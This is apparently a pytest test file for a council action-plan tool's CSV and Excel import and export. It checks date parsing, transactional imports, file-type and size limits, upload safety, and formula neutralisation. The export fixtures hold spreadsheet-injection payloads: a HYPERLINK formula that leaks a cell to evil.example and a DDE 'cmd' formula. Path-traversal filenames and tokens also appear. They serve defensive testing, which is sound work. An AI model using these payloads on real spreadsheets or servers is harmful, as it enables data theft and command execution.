"""Importing an action plan from CSV or Excel (preview first, one transaction), the dates and statuses real plans
use, refusing files that are not CSV or Excel or are too big, keeping uploads safely, and exports that never
carry a live formula."""
from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from feedback import plan_import, plan_services
from feedback.models import AMBER, BLUE, GREEN, NOT_STARTED, RED, Action, ActionPlan, Priority, ProgressUpdate
from feedback.plan_import import DateProblem, ImportFileError, build_preview, parse_date, parse_status
from portal.extensions import db
from portal.models import AuditEntry

HEADER = ["Ref:", "Priority", "Inspection findings/Action:", "Start:", "End:", "Measure/outcome:", "Evidence",
          "Lead officer/partner:", "DLT lead:", "Comments:", "BRAG status:"]

# Shaped like the City of London SEND Service Improvement Action Plan 2018-19, with its date styles.
CLEAN_ROWS = [
    ["1.1", "1 Identifying needs early", "To improve data collection regarding attendance, exclusion and achievement",
     "Sept. 18", "Dec. 18 (then annually)", "Data sharing agreements are set up", "SEND Data Dashboard",
     "KH, MR/ Hackney Learning Trust", "CP/TS", "Two applications have been sent to the DfE", "Amber"],
    ["1.2", "1", "To continue to develop the SENCo Network", "July 18", "July 19",
     "SENCO meetings held three times a year",
     "Agenda and minutes", "LH, IB-D", "CP/TS", "A number of EY settings attended", "green"],
    ["1.4", "1", "Ensure the voice of children, young people and families is integral", "July 2018", "July 2019",
     "A SEND Participation Strategy is co-produced", "", "All Service Leads", "CP/TS", "", "On track"],
    ["1.5", "1", "Recruit a Designated Clinical Officer (DCO)", "July 2018 and ongoing", "", "A DCO is recruited", "",
     "SC/SD, JE", "CP/TS", "DCO recruited June 2018", "Complete"],
    ["5.5", "5 Creating smooth transitions", "Identify the strategic lead for post 19 developments", "Sept 2017",
     "Sept 18", "Post 19 lead to establish a plan", "", "IT", "CP", "", "BLUE"],
    ["6.1", "6 Improving long-term outcomes", "Steps are taken to ensure GP staff understand the SEND reforms",
     "June 2018", "Dec. 2018", "The GP service is made aware of the views of parents", "", "SD/CPCF, DCO", "CP",
     "SD has met with the Practice Manager", "Red"],
    ["6.3", "6", "Audit of the quality of health input into EHC plans", "31-Mar-18", "31/01/2019",
     "Audit by DMO of EHC Plans", "", "SC/JE", "", "", ""],
]


def csv_bytes(rows, header=HEADER, *, encoding="utf-8", title_lines=True) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    if title_lines:
        writer.writerow(["SEND Service Improvement Action Plan – 2018 - 2019"])
        writer.writerow([])
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def problem_rows():
    rows = [list(row) for row in CLEAN_ROWS]
    rows[1][4] = "Summer 2019"          # bad date (row 5 in the file)
    rows[2][10] = "Purple"              # unknown status (row 6)
    rows[3][0] = "1.2"                  # duplicate ref (row 7)
    rows[4][2] = ""                     # missing action (row 8)
    return rows


@pytest.fixture
def officer(make_user, login):
    return login(make_user("officer@example.org", roles=("officer",), name="Olu Officer"))


def counts() -> dict:
    return {model.__name__: db.session.scalar(select(func.count(model.id)))
            for model in (ActionPlan, Priority, Action, ProgressUpdate)}


NOTHING = {"ActionPlan": 0, "Priority": 0, "Action": 0, "ProgressUpdate": 0}


def upload(client, data: bytes, filename="plan.csv", plan="new", title="City of London SEND plan 2018-19"):
    # The body is encoded here, in memory: the test client would spool a big one to a temporary file it never closes.
    boundary, body = encode_multipart(MultiDict({"file": FileStorage(io.BytesIO(data), filename), "plan": plan,
                                                 "plan_title": title}))
    return client.post("/plan/import", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def uploads_folder(app) -> str:
    return os.path.join(app.instance_path, "plan-imports")


# --- dates and statuses ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("31-Mar-18", date(2018, 3, 31)),
    ("31/03/2018", date(2018, 3, 31)),
    ("31/3/18", date(2018, 3, 31)),
    ("Sept. 18", date(2018, 9, 30)),
    ("Sept.18", date(2018, 9, 30)),
    ("Sep 2018", date(2018, 9, 30)),
    ("July 2019", date(2019, 7, 31)),
    ("March 2015", date(2015, 3, 31)),
    ("Feb 2020", date(2020, 2, 29)),
    ("Jan.19", date(2019, 1, 31)),
    ("2019-07-31", date(2019, 7, 31)),
    ("2019-07-31 00:00:00", date(2019, 7, 31)),
    ("1st September 2018", date(2018, 9, 1)),
    (datetime(2019, 7, 31, 0, 0), date(2019, 7, 31)),
    (date(2019, 7, 31), date(2019, 7, 31)),
    (43646, date(2019, 6, 30)),  # an Excel serial date
    ("", None),
    (None, None),
    ("ongoing", None),
    ("TBC", None),
])
def test_dates_in_the_styles_plans_use(text, expected):
    assert parse_date(text)[0] == expected


def test_words_after_a_date_are_kept():
    assert parse_date("Dec. 18 (then annually)") == (date(2018, 12, 31), "(then annually)")
    assert parse_date("July 2019 and ongoing") == (date(2019, 7, 31), "and ongoing")


@pytest.mark.parametrize("text", ["Summer 2019", "31/02/2019", "13/13/2019", "soon", "31 March", "2019-02-30",
                                  "03/31/2019", "12345"])
def test_what_is_not_a_date(text):
    with pytest.raises(DateProblem):
        parse_date(text)


@pytest.mark.parametrize("text, status", [
    ("Blue", BLUE), ("complete", BLUE), ("COMPLETED", BLUE), ("green", GREEN), ("On track", GREEN),
    ("Amber", AMBER), ("at risk", AMBER), ("Red", RED), ("escalate", RED), ("Not started", NOT_STARTED),
    ("", NOT_STARTED), (None, NOT_STARTED), ("Green – on track", GREEN), ("Purple", None), ("Amber/Red", None),
])
def test_status_words(text, status):
    assert parse_status(text) == status


def test_headers_match_synonyms_without_case(app):
    header = ["REFERENCE", "Workstream", "Task", "Who", "Start date", "By when", "Success criteria", "evidence",
              "Monitoring and updates", "RAG", "Partners"]
    data = csv_bytes([["2.1", "Workstream 2", "Publish waiting times", "Head of SEND", "Jan 2023", "March 2024",
                       "Times published", "Website", "Updated quarterly", "g", "CAMHS"]],
                     header=header, title_lines=False)
    preview = build_preview(data)
    assert set(preview.columns) == {"ref", "priority", "description", "lead", "start_on", "due_on", "measure",
                                    "evidence", "comments", "status", "partners"}
    (row,) = preview.rows
    assert (row.ref, row.lead, row.status, row.due_on, row.partners) == ("2.1", "Head of SEND", GREEN,
                                                                       date(2024, 3, 31), "CAMHS")
    assert preview.ok


def test_bury_style_rows_take_the_reference_from_the_action(app):
    header = ["Key actions to address the areas for development", "Date to be completed By", "Lead Officer",
              "Success Criteria / Measures", "Progress Update"]
    data = csv_bytes([["5.1.7 Establish a mechanism to collect and respond to feedback from parents of the Local Offer",
                       "31-Dec-17", "KLR/ TM", "You said we did Immediate response to queries", ""]],
                     header=header, title_lines=False)
    (row,) = build_preview(data).rows
    assert row.ref == "5.1.7" and row.description.startswith("Establish a mechanism")
    assert row.priority_ref == "5.1" and row.due_on == date(2017, 12, 31) and row.status == NOT_STARTED
    assert not row.problems


# --- preview and import through the pages -----------------------------------------------------------------

def test_preview_shows_each_rows_problems_and_writes_nothing(app, client, officer):
    response = upload(client, csv_bytes(problem_rows()))
    assert response.status_code == 302
    token = response.headers["Location"].rsplit("/", 1)[1]
    preview = client.get(response.headers["Location"])
    assert preview.status_code == 200
    html = preview.get_data(as_text=True)
    assert "4 rows have problems" in html
    assert "Row 5: “Summer 2019” in End is not a date" in html
    assert "Row 6: “Purple” is not a status: use Blue, Green, Amber, Red or Not started" in html
    assert "Row 7: Reference 1.2 is also used on row 5" in html
    assert "Row 8: The action is missing" in html
    assert "These columns are not imported: DLT lead." in html
    assert "Import 7 actions" not in html and f'action="/plan/import/{token}"' not in html
    assert counts() == NOTHING

    # Sending the import anyway changes nothing.
    response = client.post(f"/plan/import/{token}")
    assert response.status_code == 409
    assert "Nothing was imported" in response.get_data(as_text=True)
    assert counts() == NOTHING
    assert db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.record_type == "action")) == 0


def test_a_clean_file_imports_every_row_in_one_go(app, client, officer):
    response = upload(client, csv_bytes(CLEAN_ROWS, encoding="utf-8-sig"))
    token = response.headers["Location"].rsplit("/", 1)[1]
    assert os.listdir(uploads_folder(app)) and all(name.startswith(token) for name in os.listdir(uploads_folder(app)))
    html = client.get(f"/plan/import/{token}").get_data(as_text=True)
    assert "Import 7 actions" in html and "problem" not in html.lower().replace("problems</th>", "")

    response = client.post(f"/plan/import/{token}")
    assert response.status_code == 302
    made = db.session.scalar(select(ActionPlan))
    assert response.headers["Location"] == f"/plan/{made.id}"
    assert made.title == "City of London SEND plan 2018-19"
    assert [(p.ref, p.title) for p in made.priorities] == [
        ("1", "Identifying needs early"), ("5", "Creating smooth transitions"), ("6", "Improving long-term outcomes")]
    actions = {a.ref: a for p in made.priorities for a in p.actions}
    assert list(actions) == ["1.1", "1.2", "1.4", "1.5", "5.5", "6.1", "6.3"]
    assert counts() == {"ActionPlan": 1, "Priority": 3, "Action": 7, "ProgressUpdate": 7}

    first = actions["1.1"]
    assert (first.start_on, first.due_on, first.status) == (date(2018, 9, 30), date(2018, 12, 31), AMBER)
    assert first.lead == "KH, MR/ Hackney Learning Trust" and first.evidence == "SEND Data Dashboard"
    assert first.measure == "Data sharing agreements are set up"
    (update,) = first.updates
    assert update.note.startswith("Two applications have been sent to the DfE")
    assert "End: Dec. 18 (then annually)" in update.note  # the words after the date are not lost
    assert [actions[ref].status for ref in ("1.2", "1.4", "1.5", "5.5", "6.1", "6.3")] == [
        GREEN, GREEN, BLUE, BLUE, RED, NOT_STARTED]
    assert actions["6.3"].start_on == date(2018, 3, 31) and actions["6.3"].due_on == date(2019, 1, 31)
    assert actions["1.5"].due_on is None
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "plan.import")).after == {"actions": 7}

    # The upload is deleted once imported.
    assert os.listdir(uploads_folder(app)) == []
    assert client.get(f"/plan/import/{token}").status_code == 404


def test_import_into_an_existing_plan_checks_references_already_there(app, client, officer):
    made = plan_services.create_plan(None, "Existing plan")
    priority = plan_services.add_priority(None, made, "1", "Identifying needs early")
    plan_services.add_action(None, priority, ref="1.2", description="Already here")
    response = upload(client, csv_bytes(CLEAN_ROWS), plan=str(made.id), title="")
    html = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Row 5: Reference 1.2 is already used in this plan" in html
    rows = [row for row in CLEAN_ROWS if row[0] != "1.2"]
    response = upload(client, csv_bytes(rows), plan=str(made.id), title="")
    assert client.post(response.headers["Location"]).status_code == 302
    assert db.session.scalar(select(func.count(ActionPlan.id))) == 1
    assert [p.ref for p in made.priorities] == ["1", "5", "6"]  # priority 1 reused, 5 and 6 added
    assert len(made.priorities[0].actions) == 4


def test_a_failure_part_way_through_leaves_nothing(app, monkeypatch):
    preview = build_preview(csv_bytes(CLEAN_ROWS))
    assert preview.ok
    real = plan_services._import_one
    calls = []

    def fail_on_the_fourth(user, priority, row):
        calls.append(row)
        if len(calls) == 4:
            raise RuntimeError("disk full")
        return real(user, priority, row)

    monkeypatch.setattr(plan_services, "_import_one", fail_on_the_fourth)
    with pytest.raises(RuntimeError):
        plan_services.import_actions(None, [row.to_new_action() for row in preview.rows], plan_title="Half a plan")
    assert len(calls) == 4
    assert counts() == NOTHING
    assert db.session.scalar(select(func.count(AuditEntry.id))) == 0

    # Into an existing plan: the plan is as it was.
    made = plan_services.create_plan(None, "Existing plan")
    before = counts()
    calls.clear()
    with pytest.raises(RuntimeError):
        plan_services.import_actions(None, [row.to_new_action() for row in preview.rows], plan=made)
    db.session.expire_all()
    assert counts() == before and db.session.get(ActionPlan, made.id).priorities == []


def test_a_failure_during_the_web_import_leaves_nothing(app, client, officer, monkeypatch):
    response = upload(client, csv_bytes(CLEAN_ROWS))
    location = response.headers["Location"]

    def broken(user, priority, row):
        if row.fields["ref"] == "6.1":
            raise RuntimeError("database went away")
        return plan_services._new_action(user, priority, status=row.status, note=row.note, **row.fields)

    monkeypatch.setattr(plan_services, "_import_one", broken)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    assert client.post(location).status_code == 500
    assert counts() == NOTHING


def test_an_excel_file_imports(app, client, officer):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Reference", "Priority", "Action", "Lead", "Start date", "End date", "Success criteria", "BRAG"])
    sheet.append([1.1, "1 Identifying needs early", "Improve data collection", "KH", datetime(2018, 9, 1),
                  datetime(2018, 12, 31), "Agreements in place", "Green"])
    sheet.append(["1.2", 1, "Develop the SENCo Network", "LH", "July 18", "July 2019", "", "Blue – complete"])
    sheet.append([None] * 8)  # blank rows are skipped
    sheet.append(["6.4", "6 Improving long-term outcomes", "More on preparing for employment", "FYI Manager",
                  "Sept. 18", 43646, "", ""])
    out = io.BytesIO()
    book.save(out)

    response = upload(client, out.getvalue(), filename="plan.xlsx", title="From Excel")
    assert response.status_code == 302
    html = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Import 3 actions" in html
    assert client.post(response.headers["Location"]).status_code == 302
    actions = {a.ref: a for a in db.session.scalars(select(Action))}
    assert set(actions) == {"1.1", "1.2", "6.4"}
    assert actions["1.1"].start_on == date(2018, 9, 1) and actions["1.1"].status == GREEN
    assert actions["1.2"].due_on == date(2019, 7, 31) and actions["1.2"].status == BLUE
    assert actions["6.4"].due_on == date(2019, 6, 30) and actions["6.4"].status == NOT_STARTED
    assert actions["1.1"].priority is actions["1.2"].priority


def png_bytes() -> bytes:
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
            b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "Ref,Action\n1.1,Not a spreadsheet\n")
    return out.getvalue()


@pytest.mark.parametrize("data, filename", [
    (png_bytes(), "plan.csv"),           # the name does not decide: the content does
    (plain_zip(), "plan.xlsx"),          # a zip that is not a workbook
    (b"PK\x03\x04 not really a zip", "plan.xlsx"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "plan.xls"),  # an old Excel 97 file
])
def test_files_that_are_not_csv_or_excel_are_refused(app, client, officer, data, filename):
    response = upload(client, data, filename=filename)
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "The file must be a CSV or Excel (.xlsx) file" in html
    assert 'class="govuk-error-summary"' in html and 'href="#file"' in html
    assert not os.path.exists(uploads_folder(app)) or os.listdir(uploads_folder(app)) == []
    assert counts() == NOTHING


def test_an_excel_file_that_unpacks_into_something_huge_is_refused(app, monkeypatch):
    book = openpyxl.Workbook()
    book.active.append(["Ref", "Action"])
    book.active.append(["1.1", "x" * 5000])
    out = io.BytesIO()
    book.save(out)
    monkeypatch.setattr(plan_import, "MAX_UNPACKED_BYTES", 4000)
    with pytest.raises(ImportFileError, match="too big to read"):
        build_preview(out.getvalue())


def test_windows_1252_csv_is_read(app):
    data = csv_bytes([["1.1", "1", "Parents’ views – collected", "Sept. 18", "Dec. 18", "", "", "SC", "", "", ""]],
                     encoding="cp1252")
    (row,) = build_preview(data).rows
    assert row.description == "Parents’ views – collected"


def test_more_than_5000_rows_is_refused(app, client, officer):
    rows = [[f"1.{n}", "1", f"Action number {n}", "", "", "", "", "", "", "", ""] for n in range(100_000)]
    data = csv_bytes(rows, title_lines=False)
    assert len(data) < plan_import.MAX_BYTES
    response = upload(client, data)
    assert response.status_code == 400
    assert "The file has more than 5,000 rows" in response.get_data(as_text=True)
    with pytest.raises(ImportFileError, match="more than 5,000 rows"):
        build_preview(data)
    # Exactly 5,000 is fine.
    assert len(build_preview(csv_bytes(rows[:5000], title_lines=False)).rows) == 5000


def test_a_file_over_5_mb_is_refused(app, client, officer):
    data = csv_bytes([["1.1", "1", "x" * (plan_import.MAX_BYTES + 10), "", "", "", "", "", "", "", ""]])
    response = upload(client, data)
    assert response.status_code == 400
    assert "The file must be smaller than 5 MB" in response.get_data(as_text=True)


def test_upload_errors_keep_the_choices(app, client, officer):
    response = client.post("/plan/import", data={"plan": "new", "plan_title": "My plan"},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "Select a CSV or Excel file" in html and 'value="My plan"' in html
    response = upload(client, csv_bytes(CLEAN_ROWS), title="")
    assert response.status_code == 400
    assert "Enter a title for the new plan" in response.get_data(as_text=True)


def test_uploads_are_kept_under_random_names_for_their_owner_only(app, client, officer, make_user, login):
    response = upload(client, csv_bytes(CLEAN_ROWS), filename="../../../etc/passwd")
    token = response.headers["Location"].rsplit("/", 1)[1]
    assert len(token) == 32 and all(c in "0123456789abcdef" for c in token)
    assert sorted(os.listdir(uploads_folder(app))) == [f"{token}.json", f"{token}.upload"]
    html = client.get(f"/plan/import/{token}").get_data(as_text=True)
    assert "passwd" in html  # only the name, shown back
    # Anything that is not a token is not found, and never read as a path.
    for bad in ["..%2F..%2Fportal.sqlite", "secret_key", token.upper(), token[:-1], "../" + token]:
        assert client.get(f"/plan/import/{bad}").status_code == 404
        assert client.post(f"/plan/import/{bad}").status_code in (404, 405)
    # Another officer cannot use this upload.
    login(make_user("other@example.org", roles=("officer",)))
    assert client.get(f"/plan/import/{token}").status_code == 404
    assert client.post(f"/plan/import/{token}/cancel").status_code == 404
    login(db.session.scalar(select(type(officer)).where(type(officer).email == "officer@example.org")))
    assert client.post(f"/plan/import/{token}/cancel").status_code == 302
    assert os.listdir(uploads_folder(app)) == []
    assert counts() == NOTHING


def test_old_uploads_are_removed(app):
    token = plan_import.save_upload(app.instance_path, b"Ref,Action\n", {"user_id": 1})
    for path in os.listdir(uploads_folder(app)):
        os.utime(os.path.join(uploads_folder(app), path), (0, 0))
    plan_import.save_upload(app.instance_path, b"Ref,Action\n", {"user_id": 1})
    assert plan_import.load_upload(app.instance_path, token) is None
    assert len(os.listdir(uploads_folder(app))) == 2


# --- the command ------------------------------------------------------------------------------------------

def test_command_previews_then_imports(app, runner, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_bytes(csv_bytes(problem_rows()))
    result = runner.invoke(args=["plan", "import", str(path), "--commit"])
    assert result.exit_code == 1
    assert "Purple" in result.output and "4 rows have problems" in result.output
    assert counts() == NOTHING

    path.write_bytes(csv_bytes(CLEAN_ROWS))
    result = runner.invoke(args=["plan", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "Nothing was written" in result.output
    assert counts() == NOTHING

    result = runner.invoke(args=["plan", "import", str(path), "--plan-title", "City of London 2018-19", "--commit"])
    assert result.exit_code == 0, result.output
    assert "Imported 7 actions" in result.output
    assert db.session.scalar(select(ActionPlan)).title == "City of London 2018-19"

    path.write_bytes(png_bytes())
    result = runner.invoke(args=["plan", "import", str(path)])
    assert result.exit_code != 0 and "The file must be a CSV or Excel (.xlsx) file" in result.output


# --- exports ----------------------------------------------------------------------------------------------

DANGEROUS = {
    "description": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "lead": "+44 20 7946 0000",
    "partners": "-2+3",
    "measure": "@SUM(A1:A9)",
    "evidence": "=1+1",
}


@pytest.fixture
def risky_plan(app):
    made = plan_services.create_plan(None, "=cmd|' /C calc'!A0")
    priority = plan_services.add_priority(None, made, "1", "=Priority")
    plan_services.add_action(None, priority, ref="1.1", due_on=date(2019, 7, 31), status=GREEN,
                             note="-1 week behind", **DANGEROUS)
    return made


def test_csv_export_neutralises_formulas(app, client, officer, risky_plan):
    response = client.get(f"/plan/{risky_plan.id}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    header, row = rows
    cells = dict(zip(header, row))
    assert cells["Action"] == "'" + DANGEROUS["description"]
    assert cells["Lead"] == "'+44 20 7946 0000"
    assert cells["Partners"] == "'-2+3"
    assert cells["Measure"] == "'@SUM(A1:A9)"
    assert cells["Evidence"] == "'=1+1"
    assert cells["Priority"] == "1 =Priority"
    assert cells["Comments"] == "'-1 week behind"
    assert cells["End"] == "31-Jul-2019" and cells["Status"] == "Green"
    for value in row:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Plain", "Plain"), ("1-2", "1-2"), ("", ""), (None, None), (date(2019, 1, 1), date(2019, 1, 1)),
])
def test_neutralise(value, expected):
    assert plan_import.neutralise(value) == expected


def test_xlsx_export_neutralises_formulas(app, client, officer, risky_plan):
    response = client.get(f"/plan/{risky_plan.id}/export.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2])}
    assert row["Action"].value == "'" + DANGEROUS["description"]
    assert row["Action"].data_type == "s"
    assert row["Lead"].value == "'+44 20 7946 0000"
    assert row["Measure"].value == "'@SUM(A1:A9)"
    assert row["End"].value == datetime(2019, 7, 31)
    for cell in sheet[2]:
        assert cell.data_type != "f"
        assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")))


def test_an_export_imports_back(app, client, officer):
    made = plan_services.create_plan(None, "Round trip")
    priority = plan_services.add_priority(None, made, "1", "Identifying needs early")
    plan_services.add_action(None, priority, ref="1.1", description="Improve data", lead="KH",
                             start_on=date(2018, 9, 1), due_on=date(2018, 12, 31), revised_due_on=date(2019, 3, 31),
                             status=AMBER, note="Delayed")
    for extension in ("csv", "xlsx"):
        data = client.get(f"/plan/{made.id}/export.{extension}").get_data()
        (row,) = build_preview(data).rows
        assert not row.problems
        assert (row.ref, row.priority_ref, row.priority_title, row.status) == ("1.1", "1", "Identifying needs early",
                                                                              AMBER)
        assert (row.start_on, row.due_on, row.revised_due_on) == (date(2018, 9, 1), date(2018, 12, 31),
                                                                  date(2019, 3, 31))
        assert row.comments == "Delayed"


def test_export_command(app, runner, tmp_path, risky_plan):
    for name in ("plan.csv", "plan.xlsx"):
        result = runner.invoke(args=["plan", "export", str(risky_plan.id), str(tmp_path / name)])
        assert result.exit_code == 0, result.output
        assert (tmp_path / name).stat().st_size > 0
    assert b"'=HYPERLINK" in (tmp_path / "plan.csv").read_bytes()
    result = runner.invoke(args=["plan", "export", str(risky_plan.id), str(tmp_path / "plan.pdf")])
    assert result.exit_code != 0
